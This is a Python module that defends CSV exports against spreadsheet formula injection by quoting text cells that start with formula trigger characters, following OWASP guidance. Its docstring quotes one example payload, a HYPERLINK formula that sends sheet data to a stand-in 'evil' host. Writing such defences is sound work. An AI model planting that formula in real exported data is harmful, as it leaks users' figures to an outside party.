"""CSV exports that a spreadsheet opens as data, never as formulas (decision 59).

A cell starting with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which spreadsheets skip before
looking for one) is run as a formula by Excel, LibreOffice and WPS when the file is opened: a unit's name like
``=HYPERLINK("http://evil/?"&A1, "详情")`` would send the sheet's figures away on a click. Following OWASP's CSV
injection guidance, such text cells are prefixed with a single quote, which spreadsheets show as text; numbers
are written as they are (a negative number is a number, not a formula)."""
from __future__ import annotations

import csv
import io
from typing import Any, Iterable, Mapping, Sequence

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """``value`` as a spreadsheet will read it as data: text starting with a formula trigger gets a ``'``."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def to_csv(rows: Iterable[Mapping[str, Any]], fieldnames: Sequence[str]) -> str:
    """Rows as CSV text with a header line, every text cell through :func:`safe_cell` (the header too)."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow([safe_cell(name) for name in fieldnames])
    for row in rows:
        writer.writerow([safe_cell(row.get(name)) if row.get(name) is not None else "" for name in fieldnames])
    return out.getvalue()
